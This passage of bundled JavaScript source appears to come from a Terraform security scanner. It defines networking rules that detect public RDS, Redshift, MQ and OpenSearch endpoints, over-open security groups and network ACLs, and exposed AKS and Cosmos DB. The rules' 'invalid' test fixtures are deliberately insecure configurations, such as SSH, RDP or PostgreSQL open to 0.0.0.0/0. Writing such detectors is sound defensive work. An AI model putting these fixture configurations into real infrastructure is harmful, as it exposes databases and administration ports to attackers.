  associate_public_ip_address = true
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-mq-broker-publicly-accessible.ts
var aws_mq_broker_publicly_accessible_default = defineRule({
  meta: {
    id: "aws-mq-broker-publicly-accessible",
    title: "Amazon MQ broker is publicly accessible",
    severity: "high",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_mq_broker"],
    description: "`publicly_accessible = true` gives the message broker public endpoints for its messaging protocols and web console, reachable by anyone on the internet who can guess or steal a broker user's password.",
    remediation: "Set `publicly_accessible = false` (this recreates the broker) and connect producers and consumers from inside the VPC.",
    precision: "very-high",
    cwe: ["CWE-284"],
    tags: ["mq", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/amazon-mq/latest/developer-guide/using-amazon-mq-securely.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/mq_broker#publicly_accessible"
    ]
  },
  check(broker, { report }) {
    if (isTrue(broker.attributes.publicly_accessible)) {
      report({ at: ["publicly_accessible"], message: `Amazon MQ broker ${broker.name} is publicly accessible from the internet (publicly_accessible = true)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_mq_broker" "orders" {
  broker_name         = "orders"
  engine_type         = "RabbitMQ"
  engine_version      = "3.13"
  host_instance_type  = "mq.m5.large"
  publicly_accessible = false
  subnet_ids          = [aws_subnet.private_a.id]
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_mq_broker" "orders" {
  broker_name         = "orders"
  engine_type         = "RabbitMQ"
  engine_version      = "3.13"
  host_instance_type  = "mq.m5.large"
  publicly_accessible = true
}
`,
        errors: [{ line: 6, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/support/network-acl.ts
var NETWORK_ACL_TYPES = ["aws_network_acl", "aws_default_network_acl", "aws_network_acl_rule"];
function openAclIngressOf(resource) {
  const attributes = resource.attributes;
  if (resource.type === "aws_network_acl_rule") {
    if (!(attributes.egress === void 0 || attributes.egress === null || isFalse(attributes.egress))) return [];
    return fromEntry(attributes, attributes.rule_action, []);
  }
  return asList(attributes.ingress).flatMap((entry, index) => isObject(entry) ? fromEntry(entry, entry.action, ["ingress", index]) : []);
}
function fromEntry(entry, action, base) {
  if (typeof action !== "string" || action.toLowerCase() !== "allow") return [];
  const reach = reachOf(entry);
  if (!reach) return [];
  const open = [];
  for (const key of ["cidr_block", "ipv6_cidr_block"]) {
    if (isInternetCidr(entry[key])) open.push({ at: [...base, key], cidr: entry[key], reach });
  }
  return open;
}
function reachOf(entry) {
  if (isAllProtocols(entry.protocol)) return "all ports";
  const protocol = typeof entry.protocol === "string" ? entry.protocol.toLowerCase() : entry.protocol;
  if (!["tcp", "udp", "6", "17", 6, 17].includes(protocol)) return void 0;
  const from = Number(entry.from_port);
  const to = Number(entry.to_port);
  if (!Number.isInteger(from) || !Number.isInteger(to) || typeof entry.from_port === "boolean") return void 0;
  if (from <= 0 && to >= 65535) return "all ports";
  const ports = sensitivePortsIn(from, to);
  return ports.length > 0 ? ports.map(({ port, name }) => `${port} (${name})`).join(", ") : void 0;
}

// packages/rules/src/terraform/networking/aws-network-acl-ingress-open.ts
var aws_network_acl_ingress_open_default = defineRule({
  meta: {
    id: "aws-network-acl-ingress-open",
    title: "Network ACL allows ingress from 0.0.0.0/0 to administration ports or all ports",
    severity: "medium",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: NETWORK_ACL_TYPES,
    description: "An inbound network ACL entry allows the internet (`0.0.0.0/0` or `::/0`) to reach every port, or a remote-administration or database port, of the subnets it covers. The ACL then adds no protection behind the security groups: one permissive security group is enough to expose the service.",
    remediation: "Allow only the ports the subnet serves publicly (for example 443 and the ephemeral return range), and deny or restrict SSH, RDP and database ports to known networks.",
    precision: "medium",
    cwe: ["CWE-284"],
    frameworks: { "CIS AWS Foundations 3.0": ["5.1"] },
    tags: ["network-acl", "nacl", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/vpc/latest/userguide/vpc-network-acls.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/network_acl_rule"
    ]
  },
  check(acl, { report }) {
    for (const open of openAclIngressOf(acl)) {
      report({ at: open.at, message: `Network ACL ${acl.name} allows ingress from ${open.cidr} to ${open.reach}` });
    }
  },
  examples: {
    valid: [
      {
        name: "HTTPS only",
        filename: "main.tf",
        code: `resource "aws_network_acl_rule" "https_in" {
  network_acl_id = aws_network_acl.public.id
  rule_number    = 100
  egress         = false
  protocol       = "tcp"
  rule_action    = "allow"
  cidr_block     = "0.0.0.0/0"
  from_port      = 443
  to_port        = 443
}
`
      },
      {
        name: "SSH denied",
        filename: "main.tf",
        code: `resource "aws_network_acl" "public" {
  vpc_id = aws_vpc.main.id

  ingress {
    rule_no    = 90
    protocol   = "tcp"
    action     = "deny"
    cidr_block = "0.0.0.0/0"
    from_port  = 22
    to_port    = 22
  }
}
`
      }
    ],
    invalid: [
      {
        name: "SSH through a separate rule",
        filename: "main.tf",
        code: `resource "aws_network_acl_rule" "ssh_in" {
  network_acl_id = aws_network_acl.public.id
  rule_number    = 110
  egress         = false
  protocol       = "tcp"
  rule_action    = "allow"
  cidr_block     = "0.0.0.0/0"
  from_port      = 22
  to_port        = 22
}
`,
        errors: [{ line: 7, column: 3, messageIncludes: "22 (SSH)" }]
      },
      {
        name: "all traffic in an inline entry",
        filename: "main.tf",
        code: `resource "aws_network_acl" "public" {
  vpc_id = aws_vpc.main.id

  ingress {
    rule_no    = 100
    protocol   = "-1"
    action     = "allow"
    cidr_block = "0.0.0.0/0"
    from_port  = 0
    to_port    = 0
  }
}
`,
        errors: [{ line: 8, column: 5, messageIncludes: "all ports" }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-opensearch-not-in-vpc.ts
var aws_opensearch_not_in_vpc_default = defineRule({
  meta: {
    id: "aws-opensearch-not-in-vpc",
    title: "OpenSearch / Elasticsearch domain has a public endpoint (not in a VPC)",
    severity: "medium",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: SEARCH_DOMAIN_TYPES,
    description: "Without `vpc_options` the domain gets a public endpoint reachable from the internet; only its access policy decides who gets in, and no security group or network control applies. Public search clusters are a frequent source of data leaks.",
    remediation: "Create the domain inside the VPC with `vpc_options { subnet_ids = […] security_group_ids = […] }` (this requires a new domain) and reach it through private networking.",
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["opensearch", "elasticsearch", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/opensearch-service/latest/developerguide/vpc.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#vpc_options"
    ]
  },
  check(domain, { report }) {
    if (isInVpc(domain) !== false) return;
    report({ message: `${domainKind(domain)} ${domain.name} is not in a VPC: its endpoint is public, reachable from the internet` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_opensearch_domain" "search" {
  domain_name = "catalog"

  vpc_options {
    subnet_ids         = [aws_subnet.private_a.id]
    security_group_ids = [aws_security_group.search.id]
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_elasticsearch_domain" "logs" {
  domain_name           = "logs"
  elasticsearch_version = "7.10"

  cluster_config {
    instance_type = "t3.small.elasticsearch"
  }
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-rds-publicly-accessible.ts
var aws_rds_publicly_accessible_default = defineRule({
  meta: {
    id: "aws-rds-publicly-accessible",
    title: "RDS database instance is publicly accessible",
    severity: "high",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_db_instance", "aws_rds_cluster_instance"],
    description: "`publicly_accessible = true` gives the instance a public DNS name and address. Only its security groups then stand between the database and the internet.",
    remediation: "Set `publicly_accessible = false` and reach the database from inside the VPC (application subnets, a bastion or a VPN).",
    precision: "very-high",
    cwe: ["CWE-284"],
    frameworks: { "CIS AWS Foundations 3.0": ["2.3.3"] },
    tags: ["rds", "network-exposure"],
    references: ["https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_VPC.WorkingWithRDSInstanceinaVPC.html"]
  },
  check(database, { report }) {
    if (database.attributes.publicly_accessible === true) {
      report({ at: ["publicly_accessible"], message: `${database.name} is reachable from the internet (publicly_accessible = true)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_db_instance" "orders" {
  engine              = "postgres"
  instance_class      = "db.t4g.medium"
  publicly_accessible = false
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_db_instance" "orders" {
  engine              = "postgres"
  instance_class      = "db.t4g.medium"
  publicly_accessible = true
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-redshift-publicly-accessible.ts
var aws_redshift_publicly_accessible_default = defineRule({
  meta: {
    id: "aws-redshift-publicly-accessible",
    title: "Redshift cluster is publicly accessible",
    severity: "high",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_redshift_cluster"],
    description: "`publicly_accessible = true` gives the data warehouse a public IP address and a DNS name that resolves to it from the internet; only its security groups then keep attackers away from the database port.",
    remediation: "Set `publicly_accessible = false` and reach the cluster from inside the VPC, through a VPN, or with Redshift-managed VPC endpoints.",
    precision: "very-high",
    cwe: ["CWE-284"],
    tags: ["redshift", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/redshift/latest/mgmt/managing-clusters-vpc.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/redshift_cluster#publicly_accessible"
    ]
  },
  check(cluster, { report }) {
    if (isTrue(cluster.attributes.publicly_accessible)) {
      report({ at: ["publicly_accessible"], message: `Redshift cluster ${cluster.name} is publicly accessible from the internet (publicly_accessible = true)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_redshift_cluster" "analytics" {
  cluster_identifier  = "analytics"
  node_type           = "ra3.xlplus"
  publicly_accessible = false
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_redshift_cluster" "analytics" {
  cluster_identifier  = "analytics"
  node_type           = "ra3.xlplus"
  publicly_accessible = true
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-sagemaker-notebook-direct-internet-access.ts
var aws_sagemaker_notebook_direct_internet_access_default = defineRule({
  meta: {
    id: "aws-sagemaker-notebook-direct-internet-access",
    title: "SageMaker notebook instance has direct internet access",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_sagemaker_notebook_instance"],
    description: "Direct internet access (the default) gives the notebook a network path to the internet that bypasses the VPC's controls, so code run in it can download anything and send data anywhere.",
    remediation: 'Set `direct_internet_access = "Disabled"` with `subnet_id` and `security_groups`, and reach the internet, if needed, through a NAT gateway or VPC endpoints you control.',
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["sagemaker", "network-exposure", "internet"],
    references: [
      "https://docs.aws.amazon.com/sagemaker/latest/dg/appendix-notebook-and-internet-access.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sagemaker_notebook_instance#direct_internet_access"
    ]
  },
  check(notebook, { report }) {
    const access = notebook.attributes.direct_internet_access;
    if (isUnknown(access)) return;
    if (access === void 0 || access === null) {
      report({ message: `SageMaker notebook ${notebook.name} has direct internet access (direct_internet_access defaults to "Enabled")` });
    } else if (access === "Enabled") {
      report({ at: ["direct_internet_access"], message: `SageMaker notebook ${notebook.name} has direct internet access (direct_internet_access = "Enabled")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_sagemaker_notebook_instance" "research" {
  name                   = "research"
  role_arn               = aws_iam_role.sagemaker.arn
  instance_type          = "ml.t3.medium"
  subnet_id              = aws_subnet.private.id
  security_groups        = [aws_security_group.notebook.id]
  direct_internet_access = "Disabled"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_sagemaker_notebook_instance" "research" {
  name                   = "research"
  role_arn               = aws_iam_role.sagemaker.arn
  instance_type          = "ml.t3.medium"
  direct_internet_access = "Enabled"
}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-security-group-all-ports-open.ts
var aws_security_group_all_ports_open_default = defineRule({
  meta: {
    id: "aws-security-group-all-ports-open",
    title: "Security group opens all ports or all protocols to the internet (0.0.0.0/0)",
    severity: "critical",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: SECURITY_GROUP_TYPES,
    description: "An ingress rule allows `0.0.0.0/0` or `::/0` on every port (protocol `-1`, or ports 0–65535). Every service on the attached instances, including administration and database ports and anything started later, is reachable from the whole internet.",
    remediation: "Replace the rule with rules for the specific ports the service needs, and restrict their sources to known CIDR ranges or other security groups.",
    precision: "very-high",
    cwe: ["CWE-284"],
    frameworks: { "CIS AWS Foundations 3.0": ["5.2", "5.3"] },
    tags: ["security-group", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/security_group#ingress"
    ]
  },
  check(group, { report }) {
    for (const open of openIngressOf(group)) {
      if (open.allProtocols) {
        report({ at: open.at, message: `${group.name} allows all traffic (every protocol and port) from ${open.cidr}` });
      } else if (open.from <= 0 && open.to >= 65535) {
        report({ at: open.at, message: `${group.name} opens all ports (${open.from}-${open.to}) to ${open.cidr}` });
      }
    }
  },
  examples: {
    valid: [
      {
        name: "all traffic from inside the VPC only",
        filename: "main.tf",
        code: `resource "aws_security_group" "internal" {
  vpc_id = aws_vpc.main.id

  ingress {
    from_port   = 0
    to_port     = 0
    protocol    = "-1"
    cidr_blocks = ["10.0.0.0/16"]
  }
}
`
      }
    ],
    invalid: [
      {
        name: "protocol -1 from anywhere",
        filename: "main.tf",
        code: `resource "aws_security_group" "debug" {
  vpc_id = aws_vpc.main.id

  ingress {
    from_port   = 0
    to_port     = 0
    protocol    = "-1"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
`,
        errors: [{ line: 8, column: 20, messageIncludes: "all traffic" }]
      },
      {
        name: "every TCP port through a separate rule",
        filename: "main.tf",
        code: `resource "aws_security_group_rule" "wide_open" {
  type              = "ingress"
  security_group_id = aws_security_group.app.id
  from_port         = 0
  to_port           = 65535
  protocol          = "tcp"
  ipv6_cidr_blocks  = ["::/0"]
}
`,
        errors: [{ line: 7, column: 24, messageIncludes: "all ports" }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-security-group-sensitive-port-open.ts
var aws_security_group_sensitive_port_open_default = defineRule({
  meta: {
    id: "aws-security-group-sensitive-port-open",
    title: "Security group opens an administration or database port to the internet",
    severity: "critical",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: SECURITY_GROUP_TYPES,
    description: "An ingress rule allows `0.0.0.0/0` or `::/0` to reach a port used for remote administration (SSH, RDP, WinRM, VNC) or a database or cluster service (PostgreSQL, MySQL, Redis, Elasticsearch, etcd, the Kubernetes API…). These ports are scanned and brute-forced within minutes of exposure.",
    remediation: "Restrict the rule's CIDR ranges to known networks, reach administration through a bastion, VPN or AWS Systems Manager Session Manager, and keep databases in private subnets reachable only from application security groups.",
    precision: "very-high",
    cwe: ["CWE-284"],
    frameworks: { "CIS AWS Foundations 3.0": ["5.2", "5.3"] },
    tags: ["security-group", "network-exposure"],
    references: ["https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html"]
  },
  check(group, { report }) {
    for (const open of openIngressOf(group)) {
      if (open.allProtocols || open.from <= 0 && open.to >= 65535) continue;
      const ports = sensitivePortsIn(open.from, open.to);
      if (ports.length === 0) continue;
      const named = ports.map(({ port, name }) => `${port} (${name})`).join(", ");
      report({ at: open.at, message: `${group.name} allows ${open.cidr} to reach ${named}` });
    }
  },
  examples: {
    valid: [
      {
        name: "HTTPS from anywhere, SSH from the office",
        filename: "main.tf",
        code: `resource "aws_security_group" "web" {
  ingress {
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["198.51.100.0/24"]
  }
}
`
      }
    ],
    invalid: [
      {
        name: "SSH from anywhere, inline",
        filename: "main.tf",
        code: `resource "aws_security_group" "bastion" {
  ingress {
    from_port        = 22
    to_port          = 22
    protocol         = "tcp"
    cidr_blocks      = ["10.0.0.0/8", "0.0.0.0/0"]
    ipv6_cidr_blocks = ["::/0"]
  }
}
`,
        errors: [
          { line: 6, column: 39, messageIncludes: "22 (SSH)" },
          { line: 7, column: 25 }
        ]
      },
      {
        name: "PostgreSQL through a separate rule",
        filename: "main.tf",
        code: `resource "aws_security_group_rule" "db" {
  type              = "ingress"
  security_group_id = aws_security_group.db.id
  from_port         = 5432
  to_port           = 5432
  protocol          = "tcp"
  cidr_blocks       = ["0.0.0.0/0"]
}
`,
        errors: [{ line: 7, column: 24, messageIncludes: "PostgreSQL" }]
      },
      {
        name: "RDP through the VPC ingress rule resource",
        filename: "main.tf",
        code: `resource "aws_vpc_security_group_ingress_rule" "rdp" {
  security_group_id = aws_security_group.win.id
  cidr_ipv4         = "0.0.0.0/0"
  from_port         = 3389
  to_port           = 3389
  ip_protocol       = "tcp"
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-security-group-wide-port-range-open.ts
var WIDE_RANGE = 100;
var aws_security_group_wide_port_range_open_default = defineRule({
  meta: {
    id: "aws-security-group-wide-port-range-open",
    title: "Security group opens a wide port range to the internet (0.0.0.0/0)",
    severity: "high",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: SECURITY_GROUP_TYPES,
    description: "An ingress rule lets `0.0.0.0/0` or `::/0` reach more than a hundred ports at once. Whatever listens in that range now or later (debug servers, node ports, ephemeral services) is exposed to the internet. Ranges that include administration or database ports, and all-port rules, are reported by their own rules.",
    remediation: "Open only the ports the service needs, and restrict the sources to known CIDR ranges, a load balancer or other security groups.",
    precision: "high",
    cwe: ["CWE-284"],
    frameworks: { "CIS AWS Foundations 3.0": ["5.2", "5.3"] },
    tags: ["security-group", "network-exposure"],
    references: ["https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html"]
  },
  check(group, { report }) {
    for (const open of openIngressOf(group)) {
      if (open.allProtocols || open.from <= 0 && open.to >= 65535) continue;
      if (open.to - open.from + 1 <= WIDE_RANGE) continue;
      if (sensitivePortsIn(open.from, open.to).length > 0) continue;
      report({ at: open.at, message: `${group.name} opens ${open.to - open.from + 1} ports (${open.from}-${open.to}) to ${open.cidr}` });
    }
  },
  examples: {
    valid: [
      {
        name: "web ports from anywhere",
        filename: "main.tf",
        code: `resource "aws_security_group" "web" {
  ingress {
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
`
      }
    ],
    invalid: [
      {
        name: "Kubernetes node ports from anywhere",
        filename: "main.tf",
        code: `resource "aws_vpc_security_group_ingress_rule" "node_ports" {
  security_group_id = aws_security_group.nodes.id
  cidr_ipv4         = "0.0.0.0/0"
  from_port         = 30000
  to_port           = 32767
  ip_protocol       = "tcp"
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: "30000-32767" }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-subnet-public-ip-on-launch.ts
var aws_subnet_public_ip_on_launch_default = defineRule({
  meta: {
    id: "aws-subnet-public-ip-on-launch",
    title: "Subnet assigns a public IP to every instance launched in it",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_subnet", "aws_default_subnet"],
    description: "`map_public_ip_on_launch = true` gives every instance, container task or node started in the subnet a public IP address, whether or not it is meant to be reachable from the internet.",
    remediation: "Set `map_public_ip_on_launch = false`, keep workloads in private subnets behind NAT, and request public addresses explicitly only for the few resources that need them.",
    precision: "medium",
    cwe: ["CWE-284"],
    tags: ["vpc", "subnet", "public-ip", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/vpc/latest/userguide/vpc-ip-addressing.html#subnet-public-ip",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/subnet#map_public_ip_on_launch"
    ]
  },
  check(subnet, { report }) {
    if (isTrue(subnet.attributes.map_public_ip_on_launch)) {
      report({ at: ["map_public_ip_on_launch"], message: `Subnet ${subnet.name} gives a public IP to every instance launched in it (map_public_ip_on_launch = true)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_subnet" "private_a" {
  vpc_id            = aws_vpc.main.id
  cidr_block        = "10.0.1.0/24"
  availability_zone = "eu-west-1a"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_subnet" "public_a" {
  vpc_id                  = aws_vpc.main.id
  cidr_block              = "10.0.101.0/24"
  map_public_ip_on_launch = true
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/azure-aks-api-server-public.ts
function rangesOf(value) {
  if (isUnknown(value)) return "unknown";
  return Array.isArray(value) ? value : [];
}
var azure_aks_api_server_public_default = defineRule({
  meta: {
    id: "azure-aks-api-server-public",
    title: "AKS API server publicly accessible (not a private cluster, no authorized IP ranges)",
    severity: "medium",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_kubernetes_cluster"],
    description: "The cluster is not private and does not restrict its API server to authorized IP ranges, so the Kubernetes control plane answers anyone on the internet. Leaked kubeconfigs and credential or API server vulnerabilities are then exploitable from anywhere.",
    remediation: "Make it a private cluster (`private_cluster_enabled = true`), or list the networks allowed to reach the API server in `api_server_access_profile { authorized_ip_ranges = [...] }`.",
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["azure", "aks", "kubernetes", "network-exposure", "private-cluster"],
    references: [
      "https://learn.microsoft.com/azure/aks/api-server-authorized-ip-ranges",
      "https://learn.microsoft.com/azure/aks/private-clusters",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#api_server_access_profile"
    ]
  },
  check(cluster, { report }) {
    const attributes = cluster.attributes;
    const isPrivate = attributes.private_cluster_enabled;
    if (isPrivate === true || isUnknown(isPrivate) || isUnknown(attributes.api_server_access_profile)) return;
    const legacy = rangesOf(attributes.api_server_authorized_ip_ranges);
    if (legacy === "unknown") return;
    const sources = [{ base: ["api_server_authorized_ip_ranges"], ranges: legacy }];
    for (const [index, profile] of asList(attributes.api_server_access_profile).entries()) {
      if (!isObject(profile)) return;
      const ranges = rangesOf(getPath(profile, ["authorized_ip_ranges"]));
      if (ranges === "unknown") return;
      sources.push({ base: ["api_server_access_profile", index, "authorized_ip_ranges"], ranges });
    }
    for (const { base, ranges } of sources) {
      const open = ranges.findIndex((range) => isInternetCidr(range));
      if (open >= 0) {
        report({ at: [...base, open], message: `AKS cluster ${cluster.name} authorizes the whole internet (${String(ranges[open])}) to reach its public API server` });
        return;
      }
    }
    if (sources.some(({ ranges }) => ranges.length > 0)) return;
    const at = isPrivate === false ? ["private_cluster_enabled"] : void 0;
    report({ at, message: `AKS cluster ${cluster.name} API server is publicly accessible: not a private cluster and no authorized IP ranges` });
  },
  examples: {
    valid: [
      {
        name: "authorized IP ranges",
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "analytics" {
  name                = "aks-analytics"
  location            = "westeurope"
  resource_group_name = "rg-analytics"
  dns_prefix          = "analytics"

  api_server_access_profile {
    authorized_ip_ranges = ["198.51.100.0/24"]
  }
}
`
      },
      {
        name: "private cluster",
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "analytics" {
  name                    = "aks-analytics"
  location                = "westeurope"
  resource_group_name     = "rg-analytics"
  dns_prefix              = "analytics"
  private_cluster_enabled = true
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "analytics" {
  name                = "aks-analytics"
  location            = "westeurope"
  resource_group_name = "rg-analytics"
  dns_prefix          = "analytics"

  default_node_pool {
    name       = "system"
    vm_size    = "Standard_D4s_v5"
    node_count = 3
  }
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "authorized range is the internet",
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "analytics" {
  name                    = "aks-analytics"
  location                = "westeurope"
  resource_group_name     = "rg-analytics"
  dns_prefix              = "analytics"
  private_cluster_enabled = false

  api_server_access_profile {
    authorized_ip_ranges = ["0.0.0.0/0"]
  }
}
`,
        errors: [{ line: 9, column: 29 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/azure-aks-network-policy-missing.ts
var azure_aks_network_policy_missing_default = defineRule({
  meta: {
    id: "azure-aks-network-policy-missing",
    title: "AKS cluster without a network policy engine",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_kubernetes_cluster"],
    description: "No `network_profile.network_policy` is set, so Kubernetes NetworkPolicy objects are not enforced and every pod can reach every other pod. One compromised workload can then talk to databases and internal services across namespaces. The network policy engine can only be chosen when the cluster is created.",
    remediation: 'Set `network_profile { network_plugin = "azure", network_policy = "azure" }` (or `calico` or `cilium`) and add NetworkPolicies that deny by default.',
    precision: "high",
    cwe: ["CWE-923"],
    tags: ["azure", "aks", "kubernetes", "network-policy"],
    references: [
      "https://learn.microsoft.com/azure/aks/use-network-policies",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#network_policy"
    ]
  },
  check(cluster, { report }) {
    const profiles = cluster.attributes.network_profile;
    if (isUnknown(profiles)) return;
    const list = asList(profiles);
    const message = `AKS cluster ${cluster.name} has no network policy: pod-to-pod traffic is not restricted`;
    if (list.length === 0) {
      report({ message });
      return;
    }
    const profile = list[0];
    if (isObject(profile) && (profile.network_policy === void 0 || profile.network_policy === null || profile.network_policy === "")) report({ at: ["network_profile", 0], message });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "payments" {
  name                = "aks-payments"
  location            = "westeurope"
  resource_group_name = "rg-payments"
  dns_prefix          = "payments"

  network_profile {
    network_plugin = "azure"
    network_policy = "calico"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "payments" {
  name                = "aks-payments"
  location            = "westeurope"
  resource_group_name = "rg-payments"
  dns_prefix          = "payments"

  network_profile {
    network_plugin = "kubenet"
  }
}
`,
        errors: [{ line: 7, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/azure-cosmosdb-public-network-access.ts
function hasEntries(value) {
  if (typeof value === "string") return value.trim().length > 0;
  return Array.isArray(value) && value.length > 0;
}
var azure_cosmosdb_public_network_access_default = defineRule({
  meta: {
    id: "azure-cosmosdb-public-network-access",
    title: "Cosmos DB account publicly accessible from all networks",
    severity: "medium",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_cosmosdb_account"],
    description: "Public network access is on (the provider default) and neither an IP range filter nor a virtual network filter narrows it, so the account's endpoint accepts connections from the whole internet. A leaked account key is then usable from anywhere.",
    remediation: "Set `public_network_access_enabled = false` and use a private endpoint, or restrict access with `ip_range_filter` and `is_virtual_network_filter_enabled = true` with `virtual_network_rule` blocks.",
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["azure", "cosmos-db", "network-exposure"],
    references: [
      "https://learn.microsoft.com/azure/cosmos-db/how-to-configure-firewall",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/cosmosdb_account#public_network_access_enabled"
    ]
  },
  check(account, { report }) {
    const attributes = account.attributes;
    const enabled = attributes.public_network_access_enabled;
    if (enabled !== true && enabled !== void 0) return;
    if (isUnknown(attributes.ip_range_filter) || hasEntries(attributes.ip_range_filter)) return;
    if (attributes.is_virtual_network_filter_enabled === true || isUnknown(attributes.is_virtual_network_filter_enabled)) return;
    if (enabled === true) {
      report({ at: ["public_network_access_enabled"], message: `Cosmos DB account ${account.name} is publicly accessible from all networks: public network access is enabled with no IP or virtual network filter` });
    } else {
      report({ message: `Cosmos DB account ${account.name} is publicly accessible from all networks: public network access defaults to enabled and no IP or virtual network filter is set` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_cosmosdb_account" "catalog" {
  name                          = "cosmos-catalog"
  location                      = "westeurope"
  resource_group_name           = "rg-catalog"
  offer_type                    = "Standard"
  public_network_access_enabled = false

  consistency_policy {
    consistency_level = "Session"
  }

  geo_location {
    location          = "westeurope"
    failover_priority = 0
  }
}
`
      },
      {
        name: "IP range filter",
        filename: "main.tf",
        code: `resource "azurerm_cosmosdb_account" "catalog" {
  name                = "cosmos-catalog"
  location            = "westeurope"
  resource_group_name = "rg-catalog"
  offer_type          = "Standard"
  ip_range_filter     = ["203.0.113.0/24"]
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_cosmosdb_account" "catalog" {
  name                          = "cosmos-catalog"
  location                      = "westeurope"
  resource_group_name           = "rg-catalog"
  offer_type                    = "Standard"
  public_network_access_enabled = true
}
`,
        errors: [{ line: 6, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/azure-database-public-network-access.ts
var SERVERS2 = {
  azurerm_mssql_server: { service: "SQL server", publicByDefault: true },
  azurerm_mysql_server: { service: "MySQL server", publicByDefault: true },
  azurerm_postgresql_server: { service: "PostgreSQL server", publicByDefault: true },
  azurerm_mariadb_server: { service: "MariaDB server", publicByDefault: true },
